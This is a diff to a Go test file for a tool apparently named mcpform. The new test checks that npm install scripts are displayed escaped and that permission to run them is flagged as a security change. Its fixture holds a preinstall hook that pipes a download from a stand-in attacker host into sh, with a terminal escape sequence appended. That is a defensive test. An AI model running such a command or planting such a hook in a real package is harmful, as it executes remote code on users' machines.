@@ -3,6 +3,7 @@ package plan
 import (
 	"crypto/sha256"
 	"encoding/hex"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -73,7 +74,7 @@ func TestNPMChanges(t *testing.T) {
 		t.Run(tt.name, func(t *testing.T) {
 			var got []string
 			details := ""
-			for _, c := range npmChanges("server.s", tt.newServer, tt.old, tt.live, tt.oldTree, tt.newTree) {
+			for _, c := range npmChanges("server.s", tt.newServer, tt.old, tt.live, tt.oldTree, tt.newTree, nil) {
 				seenRules[c.Rule] = true
 				r, ok := LookupRule(c.Rule)
 				if !ok || c.Class != Code || c.Grade != r.Grade || c.Security != r.Security {
@@ -87,6 +88,63 @@ func TestNPMChanges(t *testing.T) {
 			}
 			if !strings.Contains(details, tt.detail) {
 				t.Errorf("detail %q lacks %q", details, tt.detail)
+			}
+		})
+	}
+}
+
+// TestNPMScriptChanges: the install scripts' texts, read from the installed
+// tree, are shown escaped in the change and are its After value; allowing
+// them to run is a security-relevant change of its own, and so is taking
+// the permission back.
+func TestNPMScriptChanges(t *testing.T) {
+	t1 := treeOf("top@1.0.0", "dep@1.0.0")
+	with := npmRecord("1.0.0", sriA, t1, "node_modules/dep")
+	allowed := *with
+	allowed.AllowInstallScripts = true
+	scripts := []npm.PackageScripts{{Path: "node_modules/dep", Hooks: []npm.Hook{
+		{Name: "preinstall", Command: "curl https://evil.example/x | sh\u001b[2K"},
+		{Name: "postinstall", Command: "node install.js"},
+	}}}
+	for _, tt := range []struct {
+		name      string
+		newServer bool
+		old, live *lock.NPM
+		want      []string // rule action security
+		detail    []string
+	}{
+		{"new server, texts shown", true, nil, with, []string{"PKG-NPM-INSTALL-SCRIPTS update true"},
+			[]string{`node_modules/dep (preinstall: "curl https://evil.example/x | sh\u001b[2K"; postinstall: "node install.js")`, "which mcpform does not run", "allow_install_scripts = true"}},
+		{"allowed on a new server", true, nil, &allowed, []string{"PKG-NPM-INSTALL-SCRIPTS update true", "PKG-NPM-SCRIPTS-ALLOWED update true"},
+			[]string{"which run with your rights", `mcpform installs top@1.0.0 with the install scripts of its tree run`, `postinstall: "node install.js"`}},
+		{"allowed later", false, with, &allowed, []string{"PKG-NPM-SCRIPTS-ALLOWED update true"}, []string{"preinstall: "}},
+		{"disallowed", false, &allowed, with, []string{"PKG-NPM-SCRIPTS-DISALLOWED update false"}, []string{"without running its install scripts"}},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			var got []string
+			details := ""
+			for _, c := range npmChanges("server.s", tt.newServer, tt.old, tt.live, t1, t1, scripts) {
+				seenRules[c.Rule] = true
+				r, ok := LookupRule(c.Rule)
+				if !ok || c.Class != Code || c.Grade != r.Grade || c.Security != r.Security {
+					t.Errorf("%s: class %s grade %s security %v, not the catalogue's", c.Rule, c.Class, c.Grade, c.Security)
+				}
+				got = append(got, fmt.Sprintf("%s %s %v", c.Rule, c.Action, c.Security))
+				details += c.Detail + "\n"
+				if c.Rule == "PKG-NPM-INSTALL-SCRIPTS" && !strings.Contains(string(c.After), `"hook":"postinstall","command":"node install.js"`) {
+					t.Errorf("the change's After is not the scripts: %s", c.After)
+				}
+				if strings.ContainsRune(c.Detail, 0x1b) {
+					t.Errorf("detail prints a raw escape: %q", c.Detail)
+				}
+			}
+			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
+				t.Errorf("changes:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(tt.want, "\n"))
+			}
+			for _, d := range tt.detail {
+				if !strings.Contains(details, d) {
+					t.Errorf("details %q lack %q", details, d)
+				}
 			}
 		})
 	}
